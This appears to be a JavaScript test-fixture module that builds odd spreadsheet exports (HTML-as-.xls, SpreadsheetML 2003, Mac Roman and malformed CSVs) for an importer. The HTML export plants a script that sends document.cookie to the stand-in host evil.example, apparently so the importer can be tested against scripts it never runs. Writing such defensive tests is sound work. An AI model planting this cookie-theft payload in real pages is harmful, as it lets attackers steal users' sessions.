// Text fixtures for producer quirks, imported by make-fixtures.mjs (see make-fixtures-quirks.mjs):
// ".xls" files that are really an HTML table or SpreadsheetML 2003 XML, and CSV from old
// Mac Excel, with trailing delimiters, and UTF-8 with one stray Windows-1252 byte.
import { Buffer } from 'node:buffer';

const esc = (s) => String(s).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/**
 * What a web system's "Export to Excel" writes under an .xls name: an HTML page
 * with Excel's namespaces and conditional comment, a style sheet with
 * mso-number-format, a script (never to be run), a title row spanning the
 * table, <th> headers, entities, <br> line breaks and inline event handlers.
 */
export function htmlExport({ people, header, row }) {
  const th = header.map((h) => `<th>${esc(h)}</th>`).join('');
  const notes = ['Needs a visa letter<br>Speaks &quot;basic&quot; English', 'Vegetarian &amp; no nuts', '&nbsp;', 'Presenter, day&nbsp;2'];
  const body = people
    .map((p, i) => {
      const cells = row(p).map((v, c) => (c === 0 ? `<td class="text">${esc(v)}</td>` : `<td>${esc(v)}</td>`));
      const note = notes[i] ?? '';
      const script = i === 1 ? '<script type="text/javascript">parent.location="https://evil.example/?c="+document.cookie</script>' : '';
      return `<tr onclick="alert(1)">${cells.join('')}<td>${script}${note}</td></tr>`;
    })
    .join('\r\n');
  return Buffer.from(`<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<!--[if gte mso 9]><xml><x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet><x:Name>Participants</x:Name><x:WorksheetOptions><x:DisplayGridlines/></x:WorksheetOptions></x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook></xml><![endif]-->
<style>td.text { mso-number-format:"\\@"; } th { background: #dde; }</style>
<script>window.onload = function () { document.title = "<table><tr><td>not a cell</td></tr></table>"; };</script>
</head>
<body>
<table border="1">
<tr><th colspan="${header.length + 1}">Regional training &#8212; Lagos, 21&ndash;25 November 2022</th></tr>
<tr>${th}<th>Notes</th></tr>
${body}
</table>
</body>
</html>
`.replaceAll('\n', '\r\n'), 'utf8');
}

/**
 * What Excel 2003 (and many report tools since) writes as "XML Spreadsheet 2003",
 * often saved as .xls: typed cells (String, Number, DateTime), a title merged
 * across, a skipped cell (ss:Index), a hidden second sheet.
 */
export function spreadsheetMl({ people, header, row }) {
  const str = (v) => `<Cell><Data ss:Type="String">${esc(v)}</Data></Cell>`;
  const rows = people
    .map((p) => {
      const cells = row(p).slice(0, 7).map(str);
      return `   <Row>${cells.join('')}<Cell ss:StyleID="sDate"><Data ss:Type="DateTime">${p.arrival}T00:00:00.000</Data></Cell><Cell><Data ss:Type="Number">${p.days}</Data></Cell></Row>`;
    })
    .join('\n');
  const countries = [...new Set(people.map((p) => p.en))].map((c) => `   <Row>${str(c)}</Row>`).join('\n');
  return Buffer.from(`<?xml version="1.0"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:o="urn:schemas-microsoft-com:office:office"
 xmlns:x="urn:schemas-microsoft-com:office:excel"
 xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:html="http://www.w3.org/TR/REC-html40">
 <DocumentProperties xmlns="urn:schemas-microsoft-com:office:office"><Author>Registration system</Author><Created>2022-10-01T09:00:00Z</Created></DocumentProperties>
 <Styles>
  <Style ss:ID="Default" ss:Name="Normal"><Alignment ss:Vertical="Bottom"/><Font ss:FontName="Calibri" ss:Size="11"/></Style>
  <Style ss:ID="sDate"><NumberFormat ss:Format="Short Date"/></Style>
 </Styles>
 <Worksheet ss:Name="Participants">
  <Table ss:ExpandedColumnCount="${header.length + 1}" ss:ExpandedRowCount="${people.length + 3}" x:FullColumns="1" x:FullRows="1">
   <Row><Cell ss:MergeAcross="${header.length}"><Data ss:Type="String">Regional training — Lagos, 21–25 November 2022</Data></Cell></Row>
   <Row>${[...header, 'Days'].map(str).join('')}</Row>
${rows}
   <Row><Cell><Data ss:Type="String">Total</Data></Cell><Cell ss:Index="${header.length + 1}" ss:Formula="=SUM(R[-${people.length}]C:R[-1]C)"><Data ss:Type="Number">${people.reduce((s, p) => s + p.days, 0)}</Data></Cell></Row>
  </Table>
 </Worksheet>
 <Worksheet ss:Name="Lists">
  <Table>
   <Row>${str('Country')}</Row>
${countries}
  </Table>
  <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetHidden</Visible></WorksheetOptions>
 </Worksheet>
</Workbook>
`.replaceAll('\n', '\r\n'), 'utf8');
}

// Mac Roman, the encoding of old Mac Excel's "CSV": its upper half, from the WHATWG table.
const MAC_ROMAN = new Map(Array.from({ length: 128 }, (_, i) => [new TextDecoder('macintosh').decode(new Uint8Array([128 + i])), 128 + i]));

function macRoman(text) {
  return Buffer.from([...text].map((ch) => {
    const code = ch.codePointAt(0);
    if (code < 0x80) return code;
    if (MAC_ROMAN.has(ch)) return MAC_ROMAN.get(ch);
    throw new Error(`${ch} has no Mac Roman byte`);
  }));
}

/** The CSV quirks, as [name, bytes] pairs; `csv(rows, delimiter, eol)` quotes as Excel does. */
export function csvQuirks({ csv }) {
  const fr = [
    ['N° adhérent', 'Prénom', 'Nom', 'Courriel', 'Pays', 'Remarques'],
    ['00125', 'María José', 'García López', 'mj.garcia@example.es', 'Espagne', 'Arrive le 21\nRepart le 25'],
    ['00126', 'Jean-Marc', 'Le Goff', 'jm.legoff@example.fr', 'France', ''],
    ['00131', 'Anaïs', 'Lœvenbruck', 'anais.loevenbruck@example.fr', 'France', 'Végétarienne, « sans gluten »'],
    ['00132', 'Zoé', 'Lefèvre', 'zoe.lefevre@example.be', 'Belgique', 'Interprète FR - EN'],
  ];
  // Old Mac Excel's "CSV (Macintosh)": Mac Roman, CR line ends (LF inside a quoted cell), no final line end.
  const mac = csv(fr, ';', '\r').replace(/\r$/, '');
  // A reporting tool that ends every line with the delimiter, CRLF, and no line end after the last.
  const trailing = csv(fr, ',', '\r\n').replaceAll('\r\n', ',\r\n').replace(/,\r\n$/, ',');
  return [
    ['participants-mac-excel.csv', macRoman(mac)],
    ['participants-trailing-comma.csv', Buffer.from(trailing, 'utf8')],
  ];
}

/**
 * UTF-8 without BOM, every script of the list, and one stray Windows-1252 byte: an
 * apostrophe (0x92) typed in an old editor into "Emir's Palace Road".
 */
export function strayByteCsv({ people, header, row, csv }) {
  const text = csv([[...header, 'Address'], ...people.map((p) => [...row(p), p.last === 'Obi' ? 'Emir\u0092s Palace Road, Kano' : ''])], ',', '\n');
  const [before, after] = text.split('\u0092');
  return Buffer.concat([Buffer.from(before, 'utf8'), Buffer.from([0x92]), Buffer.from(after, 'utf8')]);
}
